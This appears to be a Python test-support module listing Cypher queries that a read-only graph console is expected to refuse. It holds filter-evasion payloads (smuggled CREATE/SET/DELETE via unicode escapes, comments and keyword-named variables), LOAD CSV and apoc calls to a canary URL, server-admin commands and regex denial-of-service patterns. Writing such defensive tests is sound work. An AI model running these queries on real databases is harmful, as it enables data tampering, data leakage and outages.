"""Queries that want to do more than read: the shared list, where it is at hand, and our own of the same kinds."""

import json
from typing import NamedTuple

from .needs import SHARED

FILE = SHARED / "security" / "console_attacks.json"
HARMLESS = ("allowed", "truncated")


class Attack(NamedTuple):
    """A query, its kind, and how it may end."""

    id: str
    group: str
    cypher: str
    outcomes: tuple[str, ...]

    @property
    def may_be_answered(self) -> bool:
        """Whether rows are a right outcome."""
        return bool(set(self.outcomes) & set(HARMLESS))

    @property
    def must_be_answered(self) -> bool:
        """Whether it is no attack at all."""
        return self.outcomes[0] in HARMLESS


def _shared() -> list[Attack]:
    told = json.loads(FILE.read_text(encoding="utf-8"))["attacks"] if FILE.exists() else []
    return [Attack(one["id"], one["group"].split(":")[0], one["input"], (one["expected"], *one["also_acceptable"])) for one in told]


OWN = {
    "writes": (
        "MATCH (n) WITH n AS match SET match.x = 1",
        "MATCH (n) RETURN n AS return DELETE return",
        "WITH 1 AS with SET n.x = 1 RETURN with",
        "MATCH (n) WITH [n] AS set SET set[0].x = 1",
        "MATCH (match) SET (match).x = 1",
        "MATCH (match) WITH match REMOVE match.name RETURN match",
        "MATCH (n) WITH collect(n) AS all FOREACH (m IN all | SET m.x = 1)",
        "MATCH (n) WITH n CALL (n) { WITH n DELETE n } RETURN 1",
        "MATCH (on) WITH on DELETE on",
        "MATCH ()-[where]-() WITH where DELETE where",
        "MATCH order = (a)-->(b) WITH order DELETE order",
        "UNWIND [1] AS return MATCH (n) WITH n, return SET return.x = 1",
        "MATCH (n) WITH [case IN [n] | case][0] AS case WITH case REMOVE case.name",
        "OPTIONAL MATCH (n) DELETE n",
        "RETURN EXISTS { MATCH (n) SET n.x = 1 }",
        "RETURN COUNT { CREATE (m:Pwn) RETURN m }",
        "RETURN COLLECT { MERGE (m:Pwn) RETURN m.x }",
        "MATCH (n) RETURN n UNION MATCH (n) DELETE n RETURN n",
        "INSERT (:Pwn)",
        "MATCH (n) NODETACH DELETE n",
        "MATCH (n) RETURN * SET n.x = 1",
        "UNWIND [1, 2] AS x CALL (x) { MATCH (n) RETURN n } IN TRANSACTIONS OF 1 ROW RETURN x",
        "UNWIND [1, 2] AS x CALL (x) { CREATE (n:Pwn) } IN 2 CONCURRENT TRANSACTIONS RETURN x",
    ),
    "spelling": (
        "mAtCh (n) sEt n.x = 1",
        "MATCH (n)/**/SET/**/n.x/**/=/**/1",
        "MATCH (n) //\nSET n.x = 1",
        "MATCH (n)\u2028SET n.x = 1",
        "MATCH (n)\u3000SET n.x = 1",
        "\ufeffCREATE (:Pwn)",
        "RETURN 1 // \\u000a CREATE (:Pwn)",
        "RETURN 1 /* \\u002a\\u002f AS x CREATE (:Pwn) /* */",
        "RETURN 'a\\u005c' AS x CREATE (:Pwn) //'",
        'RETURN "\\u0022 AS x CREATE (:Pwn) //"',
        "RETURN 1 AS `a\\u0060 CREATE (:Pwn) //`",
        "RETURN '\\uuu0027 AS x CREATE (:Pwn) //'",
        "\\u0043REATE (:Pwn)",
        "MATCH (n) S\\u0045T n.x = 1",
        "ＣＲＥＡＴＥ (:Pwn)",
    ),
    "outside": (
        "LOAD CSV FROM '{canary}/row' AS line RETURN line",
        "MATCH (n) LOAD CSV WITH HEADERS FROM '{canary}/' + n.name AS line RETURN line",
        "WITH 1 AS with LOAD CSV FROM '{canary}/with' AS line RETURN line",
        "CALL { LOAD CSV FROM '{canary}/call' AS line RETURN line } RETURN line",
        "RETURN COLLECT { LOAD CSV FROM '{canary}/collect' AS line RETURN line } AS x",
        "CALL apoc.load.json('{canary}/json') YIELD value RETURN value",
        "RETURN apoc.load.json('{canary}/function')",
        "RETURN `apoc.load.json`('{canary}/one')",
        "CALL `apoc.load.json`('{canary}/backticks')",
        "MATCH (n) WHERE n.name = apoc.util.md5([n.name]) RETURN n",
        "RETURN {a: apoc.cypher.runFirstColumnSingle('RETURN 1', {{}})}".replace("{{}}", "{}"),
    ),
    "server": (
        "SHOW USERS YIELD user RETURN user",
        "SHOW USERS YIELD functions",
        "SHOW TRANSACTIONS WHERE index = 1",
        "SHOW PRIVILEGES",
        "SHOW SERVERS",
        "SHOW ALIASES FOR DATABASE",
        "SHOW PROCEDURES EXECUTABLE BY neo4j",
        "SHOW SETTINGS YIELD name, value",
        "TERMINATE TRANSACTIONS 'x'",
        "CALL dbms.components()",
        "CALL dbms.listConfig()",
        "CALL dbms.killConnections(['bolt-1'])",
        "CALL db.info()",
        "CALL tx.getMetaData()",
        "USE system RETURN 1",
        "USE graph.byName('system') RETURN 1",
        "CYPHER 5 USE system SHOW USERS",
        "ALTER DATABASE neo4j SET ACCESS READ ONLY",
    ),
    "patterns": (
        "MATCH (c:Concept) WHERE c.name =~ '(.*)*x' RETURN c",
        "MATCH (c:Concept) WHERE c.name =~ '(a|b|ab)+c' RETURN c",
        "MATCH (c:Concept) WHERE c.name =~ '((a{2,}){2,})b' RETURN c",
        "MATCH (c:Concept) WHERE c.name =~ '.*.*.*.*.*x' RETURN c",
        "MATCH (c:Concept) WHERE c.name + c.name =~ 'a.*' RETURN c",
        "WITH {name: 'aaaa'} AS c WHERE c.name =~ 'a.*' RETURN c",
        "MATCH (c:Concept) WHERE c.name =~ $p RETURN c",
        "MATCH (c:Concept) WHERE c.name =~ 'a' + '*' RETURN c",
        "MATCH (c:Concept) WHERE 'aaa' =~ c.name RETURN c",
        "RETURN reduce(s = ['a'], i IN range(1, 40) | [s, s])",
        "RETURN reduce(s = 'a', i IN range(1, 40) | toString(s) + toString(s))",
        "RETURN reduce(s = 'aa', i IN range(1, 40) | replace(s, 'a', s))",
        "WITH 'a' AS s " + "WITH s + s AS s " * 40 + "RETURN size(s)",
    ),
}


def attacks(canary: str) -> list[Attack]:
    """All of them; those that would call out call the address of the canary."""
    refused = ("refused_before_execution", "error_in_query")
    own = [
        Attack(f"{group}-{number}", group, cypher.replace("{canary}", canary), refused)
        for group, queries in OWN.items()
        for number, cypher in enumerate(queries)
    ]
    return [*own, *_shared()]


GROUPS = tuple(dict.fromkeys(attack.group for attack in attacks("")))
